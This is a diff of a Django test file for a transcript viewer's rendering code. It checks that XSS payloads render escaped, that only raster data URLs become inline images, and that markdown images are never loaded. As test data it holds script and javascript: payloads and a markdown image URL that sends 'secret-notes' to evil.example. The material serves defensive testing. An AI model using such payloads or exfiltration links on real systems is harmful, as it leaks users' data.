@@ -9,7 +9,7 @@ import pytest
 from django.test import Client
 
 from tests.factories import make_run, make_thread
-from transcripts.web.rendering import image_preview_url, pretty_json, render_markdown
+from transcripts.web.rendering import inline_image_url, pretty_json, render_markdown
 
 PAYLOADS = [
     "<script>alert(1)</script>",
@@ -92,15 +92,13 @@ def test_json_payloads_render_escaped() -> None:
     assert "&lt;script&gt;" in html
 
 
-def test_only_http_and_raster_data_urls_become_image_previews() -> None:
-    assert (
-        image_preview_url("https://example.com/a.png", "image/png") == "https://example.com/a.png"
-    )
-    assert image_preview_url("data:image/png;base64,AAAA", "image/png")
-    assert image_preview_url("data:image/svg+xml;base64,PHN2Zz4=", "image/svg+xml") is None
-    assert image_preview_url("javascript:alert(1)", "image/png") is None
-    assert image_preview_url("data:text/html,<script>", "image/png") is None
-    assert image_preview_url("https://example.com/a.pdf", "application/pdf") is None
+def test_only_raster_data_urls_become_image_previews() -> None:
+    # Remote images are placeholders until the reader asks (tests/web/test_remote_images.py).
+    assert inline_image_url("https://example.com/a.png") is None
+    assert inline_image_url("data:image/png;base64,AAAA")
+    assert inline_image_url("data:image/svg+xml;base64,PHN2Zz4=") is None
+    assert inline_image_url("javascript:alert(1)") is None
+    assert inline_image_url("data:text/html,<script>") is None
 
 
 @pytest.mark.django_db
@@ -143,7 +141,7 @@ def test_a_hostile_thread_renders_inert_in_every_page(viewer_client: Client) -> 
         _assert_inert(response.content.decode(), own_scripts=True)
 
 
-def test_markdown_images_in_message_text_are_links_never_loaded_by_the_browser() -> None:
+def test_markdown_images_in_message_text_are_never_loaded_by_the_browser() -> None:
     html = render_markdown("leak ![chart *q3*](https://evil.example/p.png?d=secret-notes)")
     assert "<img" not in html
     assert 'href="https://evil.example/p.png?d=secret-notes"' in html
